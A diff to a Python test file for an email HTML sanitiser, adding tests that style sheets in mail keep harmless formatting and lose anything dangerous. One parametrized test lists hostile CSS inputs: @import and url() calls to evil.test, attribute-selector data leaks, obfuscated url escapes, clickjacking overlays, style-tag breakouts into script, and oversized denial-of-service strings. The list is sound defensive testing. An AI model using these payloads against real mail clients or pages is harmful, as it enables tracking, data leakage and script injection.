@@ -29,6 +29,7 @@ class Harmless(HTMLParser):
     PLAIN = frozenset((
         "align", "valign", "dir", "lang", "type", "bgcolor", "color", "face", "size", "width", "height",
         "border", "cellpadding", "cellspacing", "colspan", "rowspan", "span", "start", "alt", "title", "data-to",
+        "class", "id",
     ))
 
     def __init__(self, with_remote: bool = False) -> None:
@@ -55,6 +56,11 @@ class Harmless(HTMLParser):
         raise AssertionError(decl)
 
     handle_comment = handle_pi = unknown_decl = handle_decl
+
+
+def sheet(styles: str, *, with_remote: bool = False, more: str = "") -> letter_html.Formatted:
+    message = HEAD + of("text/html; charset=utf-8", f"<style>{styles}</style>{more}<p>x".encode())
+    return letter_html.formatted(message, mime.read(message), with_remote=with_remote)
 
 
 def shown(markup: str, *more: bytes, with_remote: bool = False, kind: str = "text/html; charset=utf-8") -> str:
@@ -161,3 +167,79 @@ def test_pictures_that_came_along_are_in_it_and_those_elsewhere_only_when_asked_
         '<div style="white-space:pre-wrap">1 &lt; 2 &amp; x</div><hr><i>signed</i>'
     )
     assert not letter_html.is_offered(mime.read(HEAD + of("text/plain", b"<b>")))
+
+
+def test_a_style_sheet_keeps_what_changes_how_its_text_looks():
+    found = sheet(
+        "/* head */ <!-- body, #bodyTable .col > td:first-child { margin:0 auto !important; padding: 10px 20px;\n"
+        "font-family: \"Helvetica Neue\", serif } --> h1{color:RGB(1,2,3)}"
+        "@media only screen and (max-width: 480px) { .col { width: 100% !important; position:fixed } } "
+        ".x{display:none; color:#333333; width:12345px; height:1e9px}",
+        more='<body bgcolor=#fafafa class="a b"><table id=bodyTable><td class="col \u00e9">y',
+    )
+    assert found.styles.split("\n") == [
+        "body,#bodyTable .col > td:first-child{margin:0 auto !important;padding:10px 20px;"
+        "font-family:Helvetica Neue , serif}",
+        "h1{color:RGB(1,2,3)}", "@media only screen and (max-width: 480px){", ".col{width:100% !important}", "}",
+        ".x{display:none;color:#333333}",
+    ]
+    assert 'class="a b"' in found.markup and "background-color:#fafafa" in found.markup
+    assert 'id="bodyTable"' in found.markup and "\u00e9" not in found.markup and not found.has_remote
+
+
+HARMLESS_SHEET = re.compile(
+    r"(?:@media [a-z0-9 ():.-]+\{|\}|\n|"
+    r"[\w ,.#:>+~*-]+\{(?:[a-z-]+:(?:[\w #%.,+!/-]|(?:rgb|hsl)a?\([0-9 ,.%/]+\))+;?)+\})*",
+    re.IGNORECASE,
+)
+
+
+@pytest.mark.parametrize("hostile", [
+    "@import 'https://evil.test/i'; ", "@import url(//evil.test/i);", "@charset \"utf-7\";",
+    "p{width:expression(alert(1))}",
+    "@font-face{font-family:x;src:url(https://evil.test/f)}", "p{behavior:url(#x);-moz-binding:url(//evil.test/x)}",
+    "div{position:fixed;top:0;left:0;width:100%;height:100%;z-index:9;opacity:0;transform:scale(9)}",
+    "a[href^='https://a']{background:url(https://evil.test/a)}", "a::after,a:after,p::before{content:'bank.test'}",
+    "p{background:url(https://evil.test/u)}", "p{list-style:url(//evil.test/l);cursor:url(//evil.test/c),auto}",
+    "p{background-image:\\75rl(//evil.test/u)}", "p{color:r\\65 d}", "p{background:image-set('//evil.test/i' 1x)}",
+    "@media (prefers-color-scheme:dark){p{color:#fff}}", "@supports (a:b){p{color:red}}", "p{margin:-9px;inset:0}",
+    "@layer x{p{content:'y'}}", "p{--x:url(//evil.test/x);color:var(--x)}", "p{color:red;}}}} @import '//evil.test/';",
+    "p{content:\"}</style><script>alert(1)</script>\"}", "</style ><script>alert(1)</script>", "<img src=x>{color:red}",
+    "p{font:1px '<script>'}", "p{background:url('https://evil.test/\"</style>')}", "p{color:red",
+    "@media screen{p{color:red",
+    "/*", "{" * 9000, "@media screen{" * 9000, "a," * 9000 + "a{color:red}", "}" * 9000, "p" * 9000 + "{color:red}",
+    "p{" + "color:red;" * 9000 + "}", ":host,:root,::part(x),html:has(a[href]){color:red}", "\x00p{color:\x00red}",
+])
+def test_nothing_hostile_of_a_style_sheet_stays(hostile):
+    found = sheet(hostile + " b{color:blue}")
+    assert HARMLESS_SHEET.fullmatch(found.styles), found.styles
+    assert not re.search(r"url|import|position|content|evil|script|[<\\@](?!media)|::|after|before", found.styles)
+    Harmless().feed(found.markup)
+    assert found.styles.count("{") == found.styles.count("}") and len(found.styles) < 5000
+
+
+def test_a_style_sheet_is_bounded_and_its_pictures_come_when_asked_for(monkeypatch):
+    monkeypatch.setattr("panel.rules.letter_styles.MAX_RULES", 3)
+    assert sheet("p{color:red}" * 5).styles.count("color") == 3
+    monkeypatch.setattr("panel.rules.letter_styles.MAX_SHEETS", 20)
+    assert sheet("p{color:red}" * 5).styles == "p{color:red}"
+    monkeypatch.undo()
+    styles = (
+        "p{background:#fff URL( 'https://pictures.test/a.png?x=\"1' ) no-repeat}"
+        "i{background:#eee url(https://pictures.test/b.png) no-repeat center / cover}"
+        "b{background-image:url(http://pictures.test/c)} s{background-size:50% 10px}"
+    )
+    held, loaded = (sheet(styles, with_remote=each) for each in (False, True))
+    assert held.styles == "i{background:#eee no-repeat center / cover}\ns{background-size:50% 10px}" and held.has_remote
+    assert loaded.styles.startswith(
+        'i{background:url("https://pictures.test/b.png") #eee no-repeat center / cover}'
+    ) and "c)" not in loaded.styles
+    assert not sheet("p{background:url(http://pictures.test/c)}").has_remote
+
+
+def test_hosts_in_other_letters_are_encoded_only_so_often():
+    link = "<a href='https://b\u00fccher.test/'>x</a>"
+    assert shown(link * letter_html.MAX_INTERNATIONAL).count("xn--bcher-kva.test") > letter_html.MAX_INTERNATIONAL
+    with pytest.raises(letter_html.TooMuch):
+        shown(link * (letter_html.MAX_INTERNATIONAL + 1))
+    assert "<a" not in shown("<a href='https://" + "b\u00fc" * 2000 + ".test/'>x</a>")
